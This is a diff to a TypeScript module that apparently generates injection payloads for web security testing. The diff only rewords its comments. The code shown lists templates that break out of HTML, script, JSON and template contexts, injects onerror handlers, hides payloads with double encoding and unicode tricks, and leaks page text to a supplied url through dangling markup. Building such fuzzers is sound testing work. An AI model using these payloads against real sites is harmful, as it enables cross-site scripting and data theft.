@@ -1,6 +1,6 @@
 import type { Template } from './payloads.ts';
 
-/** What ends the place that a text was put in: a quote, an element that holds text, a comment. */
+/** Text that ends its context: a quote, an element that holds text, a comment. */
 const ENDS = ['">', "'>", '`>', '-->', ']]>', '</title>', '</style>', '</textarea>', '</noscript>', '</template>'];
 
 const ends: readonly Template[] = ENDS.map(
@@ -18,7 +18,7 @@ const attributes: readonly Template[] = [
   ({ js }) => `a, x 1w" onerror="${js}`,
 ];
 
-/** Out of a script, of its texts, of JSON inside it, and into templates. */
+/** Breaks out of a script, of its strings and of JSON inside it, and into templates. */
 const scripts: readonly Template[] = [
   ({ js }) => `</script><script>${js}</script>`,
   ({ js }) => `</SCRIPT\t><script>${js}</script>`,
@@ -40,7 +40,7 @@ const scripts: readonly Template[] = [
   ({ js }) => `__proto__"],"constructor":{"prototype":{"onload":"${js}"}}`,
 ];
 
-/** Written in a way that something may undo once too often. */
+/** Encoded so that code may decode it once too often. */
 const encodings: readonly Template[] = [
   ({ js }) => `&lt;img src=x onerror=${js}&gt;`,
   ({ js }) => `&amp;lt;img src=x onerror=${js}&amp;gt;`,
@@ -56,11 +56,11 @@ const encodings: readonly Template[] = [
   ({ js }) => `<i\u0000mg src=x onerror=${js}>`,
   ({ js }) => `\ufeff<img src=x onerror=${js}>`,
   ({ js }) => `\u202e<img src=x onerror=${js}>`,
-  // Half of a character: nothing can be encoded that has one.
+  // Half of a surrogate pair: a text with one can't be encoded.
   ({ js }) => `\ud83d<img src=x onerror=${js}>\udc00`,
 ];
 
-/** Markup that swallows what follows, or sends it away. */
+/** Markup that swallows the text after it, or sends it away. */
 const dangling: readonly Template[] = [
   ({ url }) => `<img src='${url}?`,
   ({ url }) => `<a href="${url}?`,
@@ -79,5 +79,5 @@ const dangling: readonly Template[] = [
   ({ url }) => `<iframe src=${url} name='`,
 ];
 
-/** Out of wherever a text was put. */
+/** Payloads that break out of any context. */
 export const breakouts: readonly Template[] = [...ends, ...attributes, ...scripts, ...encodings, ...dangling];
